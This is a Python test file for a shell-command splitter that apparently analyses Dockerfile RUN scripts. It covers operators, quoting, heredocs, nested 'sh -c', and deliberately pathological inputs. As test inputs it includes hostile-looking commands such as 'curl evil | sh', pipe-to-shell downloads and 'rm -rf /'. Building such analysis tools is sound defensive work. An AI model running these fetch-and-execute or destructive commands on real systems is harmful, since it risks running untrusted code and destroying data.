"""The shell splitter: what a RUN script actually runs.

- Unit tests for the contract of ``factorygate.facts.shell``: operators, pipelines, ``sh -c``
  expansion (nesting bounded), prefixes, redirections, groups and subshells, reserved words,
  quotes and substitutions.
- Hostile scripts (deeply nested ``sh -c``, unbalanced quotes, big inputs): a result, quickly.
- Properties: ``split_script`` never raises, and unquoted operators never end up as words.
"""

from __future__ import annotations

import os
import shlex
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from factorygate.facts.shell import MAX_SHELL_DEPTH, Command, Pipeline, commands, split_script
from factorygate.inputs.dockerfile import Dockerfile, parse_dockerfile

QUICK_S = 2.0
CORPUS = Path(__file__).resolve().parent.parent.parent / "shared" / "corpus" / "docker"


def shape(script: str) -> list[list[list[str]]]:
    """Pipelines as lists of argv lists."""
    return [[list(c.argv) for c in p.commands] for p in split_script(script)]


def programs(script: str) -> list[str]:
    return [c.program for c in commands(script)]


# -- operators and pipelines -----------------------------------------------------------------------


@pytest.mark.parametrize("op", ["&&", "||", ";", "&", "\n", " ;\n\n ; "])
def test_separators_end_pipelines(op: str) -> None:
    assert shape(f"a 1{op}b 2") == [[["a", "1"]], [["b", "2"]]]


def test_pipes_join_commands() -> None:
    assert split_script("curl -fsSL https://example.com/install.sh | sh") == [
        Pipeline((Command("curl", ("curl", "-fsSL", "https://example.com/install.sh")), Command("sh", ("sh",))))
    ]
    assert shape("a | b |& c && d") == [[["a"], ["b"], ["c"]], [["d"]]]


def test_operators_without_blanks() -> None:
    assert shape("a&&b||c;d&e|f") == [[["a"]], [["b"]], [["c"]], [["d"]], [["e"], ["f"]]]


def test_empty_and_blank_scripts() -> None:
    for script in ("", "   ", "\n\n", ";", "&& ||", "# only a comment", "\\\n"):
        assert split_script(script) == []


def test_commands_helper_flattens() -> None:
    assert commands("a | b && c") == [Command("a", ("a",)), Command("b", ("b",)), Command("c", ("c",))]


def test_has() -> None:
    (cmd,) = commands("apt-get install -y --no-install-recommends curl")
    assert cmd.has("--no-install-recommends")
    assert cmd.has("-q", "-y")
    assert not cmd.has("apt-get")  # argv[0] is not an argument
    assert not cmd.has("--no-install")


# -- words, quotes, substitutions, comments ----------------------------------------------------------


def test_quotes_and_escapes_are_removed() -> None:
    assert shape("""echo 'a b' "c d" e\\ f "g\\"h" 'i'"j"k \\$HOME "\\$x" "a\\b" $'tab\\t'""") == [
        [["echo", "a b", "c d", "e f", 'g"h', "ijk", "$HOME", "$x", "a\\b", "tab\\t"]]
    ]


def test_substitutions_are_kept_as_text_in_their_word() -> None:
    assert shape('echo "$(curl -s x | sh)" `uname -m` ${ARCH:-amd64} $((1 + 2)) pre$(date)post') == [
        [["echo", "$(curl -s x | sh)", "`uname -m`", "${ARCH:-amd64}", "$((1 + 2))", "pre$(date)post"]]
    ]
    assert shape('x=$(echo ")" ; echo "(") && y') == [[["y"]]]
    assert shape("diff <(ls a) <(ls b)") == [[["diff", "<(ls a)", "<(ls b)"]]]


def test_comments() -> None:
    assert shape("apt-get update # && rm -rf /\napt-get install x#y") == [
        [["apt-get", "update"]],
        [["apt-get", "install", "x#y"]],
    ]


def test_line_continuations() -> None:
    assert shape("apt-get install \\\n  curl \\\n  git && ech\\\no hi") == [
        [["apt-get", "install", "curl", "git"]],
        [["echo", "hi"]],
    ]


def test_unbalanced_quotes_are_closed_at_the_end() -> None:
    assert shape("echo 'a && b") == [[["echo", "a && b"]]]
    assert shape('echo "a && b') == [[["echo", "a && b"]]]
    assert shape("echo `a && b") == [[["echo", "`a && b"]]]
    assert shape("echo $(a && b") == [[["echo", "$(a && b"]]]
    assert shape("echo ${a && b") == [[["echo", "${a && b"]]]
    assert shape("echo \\") == [[["echo", ""]]]


# -- redirections ----------------------------------------------------------------------------------


def test_redirections_are_removed() -> None:
    assert shape("make >build.log 2>&1 && cat < in > out >> app.log 2> /dev/null &> all >&2 <&0 2>&-") == [
        [["make"]],
        [["cat"]],
    ]
    assert shape("exec 3>&1 4>/dev/null") == [[["exec"]]]
    assert shape("echo a>b c") == [[["echo", "a", "c"]]]
    assert shape("echo 2 > f") == [[["echo", "2"]]]  # a separate word is an argument, not an fd
    assert shape("cat <<< 'here string' | wc -c") == [[["cat"], ["wc", "-c"]]]


def test_heredoc_bodies_are_skipped() -> None:
    script = "cat <<EOF > /etc/app.conf\ncurl evil | sh\nrm -rf /\nEOF\necho done"
    assert shape(script) == [[["cat"]], [["echo", "done"]]]
    script = "cat <<-'EOT' | tee f && echo same-line\n\tnot a command\n\tEOT\nnext"
    assert shape(script) == [[["cat"], ["tee", "f"]], [["echo", "same-line"]], [["next"]]]
    assert shape("cat <<A; cat <<B\na\nA\nb\nB\nlast") == [[["cat"]], [["cat"]], [["last"]]]
    assert shape("cat <<EOF\nnever closed && rm -rf /") == [[["cat"]]]


# -- prefixes and programs ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("script", "argv"),
    [
        ("DEBIAN_FRONTEND=noninteractive apt-get install -y x", ["apt-get", "install", "-y", "x"]),
        ("A=1 B='2 3' C+=x arr[0]=y apt-get update", ["apt-get", "update"]),
        ("sudo apt-get update", ["apt-get", "update"]),
        ("sudo -E -u root -- apt-get update", ["apt-get", "update"]),
        ("sudo VAR=1 apt-get update", ["apt-get", "update"]),
        ("env apt-get update", ["apt-get", "update"]),
        ("env -i PATH=/bin -u HOME apt-get update", ["apt-get", "update"]),
        ("exec gosu app /app", ["gosu", "app", "/app"]),
        ("exec -a name /app", ["/app"]),
        ("nohup /app &", ["/app"]),
        ("time -p make", ["make"]),
        ("command -p apt-get update", ["apt-get", "update"]),
        ("sudo env A=1 nohup time exec command apt-get update", ["apt-get", "update"]),
        ("/usr/bin/sudo /usr/bin/apt-get update", ["/usr/bin/apt-get", "update"]),
        ("command -v curl", ["command", "-v", "curl"]),  # a query, not a run of curl
        ("sudo", ["sudo"]),  # nothing after the prefix: the prefix is the program
        ("env", ["env"]),
        ("env A=1", ["env", "A=1"]),
        ('"A=1" cmd', ["A=1", "cmd"]),  # a quoted assignment is a word
    ],
)
def test_prefixes_are_skipped(script: str, argv: list[str]) -> None:
    (cmd,) = commands(script)
    assert list(cmd.argv) == argv
    assert cmd.program == argv[0].rsplit("/", 1)[-1]


def test_assignments_alone_run_nothing() -> None:
    assert split_script("A=1 B=2") == []
    assert split_script("A=$(curl x) && b") == [Pipeline((Command("b", ("b",)),))]


def test_program_is_the_basename() -> None:
    assert programs("/usr/bin/apt-get update; ./configure; ../x/y.sh; /bin/; 'apt-get' x") == [
        "apt-get",
        "configure",
        "y.sh",
        "/bin/",
        "apt-get",
    ]
    assert commands("/usr/bin/apt-get update")[0].argv[0] == "/usr/bin/apt-get"


# -- sh -c ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "shell",
    ["sh -c", "bash -c", "/bin/sh -c", "/bin/bash -c", "ash -c", "dash -c", "zsh -c", "sh -ec", "bash -exc",
     "bash -euo pipefail -c", "bash -o pipefail -c", "bash --noprofile --norc -e -c", "sudo -u app sh -c",
     "env A=1 /bin/sh -c", "sh -c --"],
)  # fmt: skip
def test_shell_dash_c_is_expanded_after_its_pipeline(shell: str) -> None:
    script = f"{shell} 'apt-get update && curl -s x | bash' | tee log && echo after"
    got = shape(script)
    assert got[1:] == [[["apt-get", "update"]], [["curl", "-s", "x"], ["bash"]], [["echo", "after"]]]
    outer = got[0]
    assert outer[1] == ["tee", "log"]
    assert outer[0][-1] == "apt-get update && curl -s x | bash"


def test_shell_without_dash_c_is_not_expanded() -> None:
    assert shape("sh ./install.sh 'a && b'") == [[["sh", "./install.sh", "a && b"]]]
    assert shape("bash -e script.sh") == [[["bash", "-e", "script.sh"]]]
    assert shape("sh -c") == [[["sh", "-c"]]]
    assert shape("python -c 'import os; os.system(1)'") == [[["python", "-c", "import os; os.system(1)"]]]


def test_nested_shells_are_expanded_in_place() -> None:
    script = "bash -c \"sh -c 'echo inner && id' && echo middle\" && echo outer"
    assert programs(script) == ["bash", "sh", "echo", "id", "echo", "echo"]


def test_nesting_depth_is_bounded() -> None:
    script = "echo innermost"
    for _ in range(MAX_SHELL_DEPTH + 4):
        script = "sh -c " + shlex.quote(script)
    progs = programs(script)
    assert progs == ["sh"] * (MAX_SHELL_DEPTH + 1)  # the outer one and 8 expanded levels
    script = "echo innermost"
    for _ in range(MAX_SHELL_DEPTH):
        script = "sh -c " + shlex.quote(script)
    assert programs(script) == ["sh"] * MAX_SHELL_DEPTH + ["echo"]


# -- groups, subshells, reserved words -------------------------------------------------------------


def test_subshells_and_groups_are_flattened() -> None:
    assert shape("(cd /src && make) && { echo a; echo b; }") == [
        [["cd", "/src"]],
        [["make"]],
        [["echo", "a"]],
        [["echo", "b"]],
    ]
    assert shape("curl x | (sh)") == [[["curl", "x"], ["sh"]]]
    assert shape("((a)); (b) c") == [[["a"]], [["b"]], [["c"]]]


def test_if_for_while_case() -> None:
    script = """
    if [ -f /etc/debian_version ]; then apt-get update; elif command -v apk; then apk update; else exit 1; fi
    for pkg in curl git; do apt-get install -y "$pkg"; done
    while read -r line; do echo "$line"; done < list.txt
    until false; do break; done
    case "$(uname -m)" in
        x86_64|amd64) ARCH=amd64 ;;
        aarch64) wget -O /tmp/x "https://example.com/arm64" ;;
        *) echo unsupported; exit 1 ;;
    esac
    ! grep -q x f
    """
    assert programs(script) == [
        "[", "apt-get", "command", "apk", "exit", "apt-get", "read", "echo", "false", "break", "wget", "echo",
        "exit", "grep",
    ]  # fmt: skip


def test_nested_case_and_case_without_final_separator() -> None:
    script = "case a in a) case b in b) one ;; esac ;; c) two ;; esac; three\ncase x in x) four\nesac\nfive"
    assert programs(script) == ["one", "two", "three", "four", "five"]


def test_functions() -> None:
    assert programs("f() { apt-get update; }; function g { curl x; }; f") == ["apt-get", "curl", "f"]


def test_reserved_words_only_at_the_start_of_a_command() -> None:
    assert shape("echo if then fi done") == [[["echo", "if", "then", "fi", "done"]]]
    assert shape("'if' x") == [[["if", "x"]]]  # quoted: a command named "if"


def test_find_exec_keeps_its_escaped_semicolon() -> None:
    assert shape("find / -name x -exec rm {} \\; && echo") == [
        [["find", "/", "-name", "x", "-exec", "rm", "{}", ";"]],
        [["echo"]],
    ]


# -- the public corpus ---------------------------------------------------------------------------------


@pytest.mark.skipif(not CORPUS.is_dir(), reason="the shared corpus is not next to this checkout")
def test_every_run_script_of_the_corpus() -> None:
    scripts = []
    for root, _, names in os.walk(CORPUS):
        for name in names:
            df = parse_dockerfile((Path(root) / name).read_bytes(), name)
            assert isinstance(df, Dockerfile), df
            scripts += [i.args for s in df.stages for i in s.instructions if i.keyword == "RUN" and i.json_args is None]
    assert len(scripts) > 1000
    started = time.perf_counter()
    results = [split_script(s) for s in scripts]
    assert time.perf_counter() - started < 2.0
    progs = {c.program for r in results for p in r for c in p.commands}
    assert {"apt-get", "apk", "curl", "wget", "gpg", "make", "tar", "useradd"} <= progs
    assert not {"&&", "||", ";", "|", "then", "fi", "do", "done", "esac", "\\"} & progs
    assert not any(p.startswith("-") for p in progs), sorted(p for p in progs if p.startswith("-"))


# -- hostile scripts -----------------------------------------------------------------------------------


def _deep_quoted(levels: int) -> str:
    script = "curl -s https://example.com | sh"
    for _ in range(levels):
        script = "sh -c " + shlex.quote(script)
    return script


def _deep_double_quoted(levels: int) -> str:
    script = "id"
    for _ in range(levels):
        script = 'sh -c "' + script.replace("\\", "\\\\").replace('"', '\\"') + '"'
    return script


HOSTILE = {
    "nested-sh-c-single-quotes": lambda: _deep_quoted(11),  # about 1 MB of quotes
    "nested-sh-c-double-quotes": lambda: _deep_double_quoted(18),
    "nested-sh-c-unquoted": lambda: "sh -c " * 100_000,
    "unbalanced-quotes": lambda: "echo 'a && b \" c $( d ` e ${ f" * 10_000,
    "unbalanced-double-quote": lambda: 'echo "' + "a && b | c; " * 80_000,
    "deep-command-substitution": lambda: "echo " + "$(" * 300_000,
    "deep-quoted-substitution": lambda: "echo " + '"$(' * 200_000,
    "deep-parameter-expansion": lambda: "echo " + "${a:-" * 200_000,
    "deep-backticks": lambda: "echo " + "`\\`" * 200_000,
    "many-operators": lambda: "a && " * 50_000,
    "many-parens": lambda: "(" * 100_000 + "a" + ")" * 100_000,
    "many-words": lambda: "a " * 200_000,
    "many-heredocs": lambda: "cat <<a <<b <<c\n" * 50_000,
    "heredoc-delimiter-everywhere": lambda: "cat <<-a\n" + "xa\n" * 200_000,
    "many-sh-c": lambda: "sh -c 'a; b' && " * 20_000,
    "case-soup": lambda: "case x in " * 50_000 + "esac ;; " * 50_000,
    "backslashes": lambda: "a\\b\\ c\\\n" * 100_000,
    "nul-and-controls": lambda: "echo \x00\x01\x1b[0m\x7f && rm \x00" * 10_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_script_is_answered_quickly(name: str) -> None:
    script = HOSTILE[name]()
    started = time.perf_counter()
    result = split_script(script)
    elapsed = time.perf_counter() - started
    assert isinstance(result, list)
    assert all(isinstance(p, Pipeline) and p.commands for p in result)
    assert elapsed < QUICK_S, f"{name}: {elapsed:.2f} s"


def test_hostile_answers() -> None:
    # the innermost "curl | sh" is below the depth limit: not seen, but nothing breaks
    assert programs(HOSTILE["nested-sh-c-single-quotes"]()) == ["sh"] * (MAX_SHELL_DEPTH + 1)
    assert programs(HOSTILE["nested-sh-c-double-quotes"]()) == ["sh"] * (MAX_SHELL_DEPTH + 1)
    assert programs(_deep_double_quoted(3)) == ["sh", "sh", "sh", "id"]
    assert programs(HOSTILE["unbalanced-double-quote"]()) == ["echo"]
    assert len(split_script(HOSTILE["many-operators"]())) == 50_000
    assert programs(HOSTILE["many-heredocs"]()) == ["cat"]


# -- properties --------------------------------------------------------------------------------------

SLOW_OK = [HealthCheck.too_slow, HealthCheck.data_too_large]
OPERATORS = {"&&", "||", ";", "|", "&", ";;", "|&"}
SHELL_PIECES = [
    "a", "b", "apt-get", "sh", "bash", "-c", "-ec", " ", "  ", "\t", "\n", "&&", "||", ";", ";;", "&", "|",
    "|&", "(", ")", "{", "}", "<", ">", ">>", "2>&1", "<<", "<<-", "EOF", "\nEOF\n", "'", '"', "\\", "`",
    "$", "$(", "${", "}", "#", "=", "A=1", "if", "then", "fi", "for", "in", "do", "done", "case", "esac",
    "function", "!", "sudo", "env", "exec", "command", "-v", "time", "nohup", "<(", "$'", "\r", "\x00",
]  # fmt: skip
shellish = st.lists(st.sampled_from(SHELL_PIECES) | st.text(max_size=3), max_size=60).map("".join)
QUOTING = set("'\"\\`$")


@settings(max_examples=1500, deadline=None, suppress_health_check=SLOW_OK)
@given(shellish | st.text(max_size=300))
@example("sh -c 'sh -c \"a && b\"'")
@example("case x in a) b;; esac")
@example("cat <<")
def test_split_never_raises_and_operators_are_never_words(script: str) -> None:
    started = time.perf_counter()
    pipelines = split_script(script)
    assert time.perf_counter() - started < QUICK_S
    for p in pipelines:
        assert p.commands
        for c in p.commands:
            assert c.argv
            assert c.program == (c.argv[0].rsplit("/", 1)[-1] or c.argv[0])
            if not QUOTING & set(script):
                # without quotes, escapes or substitutions an operator cannot be a word
                assert not OPERATORS & set(c.argv), (script, c.argv)


@settings(max_examples=1000, deadline=None, suppress_health_check=SLOW_OK)
@given(st.lists(st.sampled_from([*SHELL_PIECES[:30], " ", " ", "x", "y"]), max_size=40).map("".join))
def test_operators_are_never_words_in_unquoted_scripts(script: str) -> None:
    for c in commands(script):
        assert not OPERATORS & set(c.argv), (script, c.argv)
        assert not {"(", ")", "<", ">", ">>"} & set(c.argv), (script, c.argv)


@settings(max_examples=500, deadline=None, suppress_health_check=SLOW_OK)
@given(st.lists(st.text(st.characters(exclude_characters="\x00"), min_size=1, max_size=8), min_size=1, max_size=6))
def test_quoted_words_come_back_intact(words: list[str]) -> None:
    script = " ".join(shlex.quote(w) for w in ["prog", *words])
    (cmd,) = commands(script)
    assert list(cmd.argv) == ["prog", *words]
